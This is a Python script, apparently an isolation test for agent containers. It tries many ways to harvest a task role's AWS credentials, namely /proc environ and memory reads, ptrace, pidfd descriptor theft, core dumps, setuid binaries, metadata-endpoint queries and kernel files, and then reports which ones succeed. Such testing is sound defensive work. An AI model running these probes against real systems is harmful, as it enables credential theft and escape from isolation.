"""A tenant's program that looks for the task role's credentials, in every way that we know.

It runs in a container as the user that runs the tenant's code. It knows the form of the path, which is public, and not the path.
Prints one JSON object: `{"found": {way: where}, "tried": [ways], "rights": {…}, "wrong": [rights that it should not have]}`.
`hostile.py watch SECONDS` looks at processes that come and go instead, such as health checks, as fast as it can.
"""

import ctypes
import errno
import glob
import json
import os
import re
import resource
import stat
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request

PATH = re.compile(rb"/v[0-9]+/credentials/[0-9a-f]{8}-[0-9a-f-]{27}")
KEYS = re.compile(rb"ASIA[A-Z0-9]{16}")
libc = ctypes.CDLL(None, use_errno=True)
ME = os.getpid()
found: dict[str, str] = {}
tried: list[str] = []


def look(way: str, where: str, data: bytes) -> None:
    if PATH.search(data) or KEYS.search(data):
        found.setdefault(way, where)


def read(path: str, limit: int = 1 << 20) -> bytes:
    try:
        with open(path, "rb", buffering=0) as file:
            return file.read(limit) or b""
    except OSError:
        return b""


def processes() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def way(function):
    tried.append(function.__name__)
    try:
        function()
    except OSError as error:
        if error.errno not in (errno.EPERM, errno.EACCES, errno.ENOENT, errno.ESRCH, errno.ENOSYS, errno.EINVAL):
            raise
    return function


def memory_of(pid: int, way: str) -> None:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in maps:
                if "[stack]" in line or "[heap]" in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    look(way, f"memory of {pid}", memory.read(end - start))
    except (OSError, ValueError):
        pass


def everything() -> None:
    @way
    def own_environment():
        look("own_environment", "environ", "\n".join(f"{name}={value}" for name, value in os.environ.items()).encode())

    @way
    def environment_of_others():
        for pid in processes():
            look("environment_of_others", f"/proc/{pid}/environ", read(f"/proc/{pid}/environ"))
            for task in glob.glob(f"/proc/{pid}/task/*/environ"):
                look("environment_of_others", task, read(task))

    @way
    def command_lines():
        for pid in processes():
            look("command_lines", f"/proc/{pid}/cmdline", read(f"/proc/{pid}/cmdline"))

    @way
    def memory():
        for pid in processes():
            if pid != ME:
                memory_of(pid, "memory")

    @way
    def other_files_of_processes():
        for pid in processes():
            for name in ("auxv", "stack", "syscall", "pagemap", "smaps", "io", "timers", "personality", "mountinfo", "cgroup", "sched"):
                look("other_files_of_processes", f"/proc/{pid}/{name}", read(f"/proc/{pid}/{name}", 1 << 16))
            for name in ("root", "cwd", "exe"):
                look("other_files_of_processes", f"/proc/{pid}/{name}", read(f"/proc/{pid}/{name}/proc/1/environ"))

    @way
    def process_vm_readv():
        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

        for pid in processes():
            if pid == ME:
                continue
            # Guess where a stack is: near the top of the address space.
            buffer = ctypes.create_string_buffer(1 << 16)
            for base in [0x7FFFFFFDE000 - (n << 16) for n in range(8)]:
                local, remote = Vector(ctypes.addressof(buffer), 1 << 16), Vector(base, 1 << 16)
                size = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
                if size > 0:
                    look("process_vm_readv", f"process {pid}", buffer.raw[:size])

    @way
    def ptrace():
        attach, detach, seize = 16, 17, 0x4206
        for pid in processes():
            if pid == ME or not is_roots(pid):
                continue
            for request in (attach, seize):
                if libc.ptrace(request, pid, None, None) == 0:
                    found["ptrace"] = f"attached to process {pid}"
                    libc.ptrace(detach, pid, None, None)

    @way
    def descriptors():
        for pid in [ME, *processes()]:
            for link in glob.glob(f"/proc/{pid}/fd/*"):
                try:
                    is_file = stat.S_ISREG(os.stat(link).st_mode)
                    look("descriptors", link, os.readlink(link).encode())
                except OSError:
                    continue
                if is_file:
                    look("descriptors", link, read(link))

    @way
    def descriptors_of_root():
        pidfd_open, pidfd_getfd = 434, 438
        for pid in processes():
            if is_roots(pid):
                handle = libc.syscall(pidfd_open, pid, 0)
                if any(libc.syscall(pidfd_getfd, handle, number, 0) >= 0 for number in range(16)):
                    found["descriptors_of_root"] = f"took one of process {pid}"

    @way
    def signals_and_core_dumps():
        for pid in processes():
            if is_roots(pid):
                # Signal 0 checks the permission without a signal. Only SIGCONT is allowed to all of the same session, and it is harmless.
                try:
                    os.kill(pid, 0)
                    found["signals_and_core_dumps"] = f"may signal process {pid} of root, {command_of(pid)}"
                except OSError:
                    pass
        directory = tempfile.mkdtemp()
        child = os.fork()
        if child == 0:
            try:
                resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            except (OSError, ValueError):
                pass
            os.chdir(directory)
            os.abort()
        os.waitpid(child, 0)
        for core in glob.glob(f"{directory}/*") + glob.glob("/cores/*") + glob.glob("/var/crash/*") + glob.glob("/var/lib/systemd/coredump/*"):
            look("signals_and_core_dumps", core, read(core, 1 << 26))
        if os.access("/proc/sys/kernel/core_pattern", os.W_OK):
            found["signals_and_core_dumps"] = "may say where dumps go"

    @way
    def new_user_namespace():
        program = "import os, glob; [print(open(f, 'rb').read()) for f in glob.glob('/proc/*/environ') if os.access(f, os.R_OK)]"
        for options in (["-Ur"], ["-Urpf", "--mount-proc"], ["-Urm"]):
            ran = subprocess.run(["unshare", *options, sys.executable, "-c", program], capture_output=True, timeout=60)
            look("new_user_namespace", " ".join(options), ran.stdout)

    @way
    def root_again():
        for name, call in (("setuid", lambda: os.setuid(0)), ("setresuid", lambda: os.setresuid(0, 0, 0)), ("setgid", lambda: os.setgid(0)),
                           ("setgroups", lambda: os.setgroups([0])), ("chroot", lambda: os.chroot("/"))):
            try:
                call()
                found["root_again"] = name
            except OSError:
                pass
        for directory in ("/usr/bin", "/usr/sbin", "/usr/lib"):
            for base, _, names in os.walk(directory):
                for name in names:
                    program = os.path.join(base, name)
                    try:
                        mode = os.lstat(program).st_mode
                    except OSError:
                        continue
                    if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID) and os.access(program, os.X_OK):
                        ran = subprocess.run([program, "-c", "cat /proc/1/environ"], stdin=subprocess.DEVNULL, capture_output=True, timeout=60)
                        look("root_again", program, ran.stdout + ran.stderr)

    @way
    def metadata():
        base = os.environ.get("ECS_CONTAINER_METADATA_URI_V4", "http://169.254.170.2/v4/x")
        own = base.rsplit("/", 1)[1]
        host = "http://169.254.170.2"
        urls = [f"{base}{path}" for path in ("", "/task", "/stats", "/task/stats", "/taskWithTags", "/credentials", "/../credentials")]
        urls += [f"{host}{path}" for path in ("/", "/v2/credentials", "/v2/credentials/", f"/v2/credentials/{own}", "/v1/credentials",
                                              "/v2/metadata", "/v2/stats", "/v3/", "/v4/", "/v1/tasks", "/v1/metadata", "/debug/pprof/")]
        urls += [f"http://169.254.169.254{path}" for path in ("/latest/meta-data/iam/security-credentials/",)]
        for url in urls:
            try:
                with urllib.request.urlopen(url, timeout=3) as answer:
                    look("metadata", url, answer.read())
            except urllib.error.HTTPError as error:
                look("metadata", url, error.read())
            except OSError:
                pass

    @way
    def files():
        for directory in ("/etc", "/run", "/tmp", "/var", "/dev/shm", "/home", "/root", "/opt", "/srv", "/managed-agents", "/mnt"):
            for base, directories, names in os.walk(directory):
                if len(base) > 200 or "node_modules" in base:
                    directories.clear()
                    continue
                for name in names:
                    path = os.path.join(base, name)
                    try:
                        is_small = stat.S_ISREG(os.lstat(path).st_mode) and os.lstat(path).st_size < 1 << 22
                    except OSError:
                        continue
                    if is_small:
                        look("files", path, read(path, 1 << 22))

    @way
    def kernel():
        for path in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/proc/keys", "/proc/kallsyms", "/sys/kernel/debug/x", "/proc/kmsg", "/proc/vmcore"):
            look("kernel", path, read(path, 1 << 16))


def is_roots(pid: int) -> bool:
    # Not by the owner of its directory: that is root for a process that cannot be dumped, whatever user it runs as.
    ids = re.search(rb"^Uid:(.*)$", read(f"/proc/{pid}/status"), re.M)
    return bool(ids) and b"0" in ids[1].split()


def command_of(pid: int) -> str:
    return read(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode(errors="replace")[:80]


def rights() -> dict[str, str]:
    lines = dict(line.split(":", 1) for line in read("/proc/self/status").decode().splitlines() if ":" in line)
    return {name: " ".join(lines.get(name, "").split())
            for name in ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs")}


def wrong(rights: dict[str, str]) -> list[str]:
    """The rights that an agent should not have."""
    capabilities = [name for name in rights if name.startswith("Cap") and int(rights[name], 16)]
    ids = [name for name in ("Uid", "Gid") if len(set(rights[name].split())) != 1 or "0" in rights[name].split()]
    return capabilities + ids + ["Groups"] * bool(rights["Groups"]) + ["NoNewPrivs"] * (rights["NoNewPrivs"] != "1")


def watch(seconds: float) -> None:
    """Reads environment and command line of new processes repeatedly while they run, since both change a few times."""
    tried.append("watch")
    until, known, seen = time.monotonic() + seconds, set(processes()), set()
    print("watching", flush=True)
    while time.monotonic() < until:
        for pid in processes():
            if pid not in known:
                seen.add(pid)
                look("watch", f"environ of {pid}", read(f"/proc/{pid}/environ"))
                look("watch", f"command line of {pid}", read(f"/proc/{pid}/cmdline"))
    tried.append(f"{len(seen)} processes")


if __name__ == "__main__":
    rights_now = rights()
    watch(float(sys.argv[2])) if sys.argv[1:2] == ["watch"] else everything()
    print(json.dumps({"found": found, "tried": tried, "rights": rights_now, "wrong": wrong(rights_now)}), flush=True)
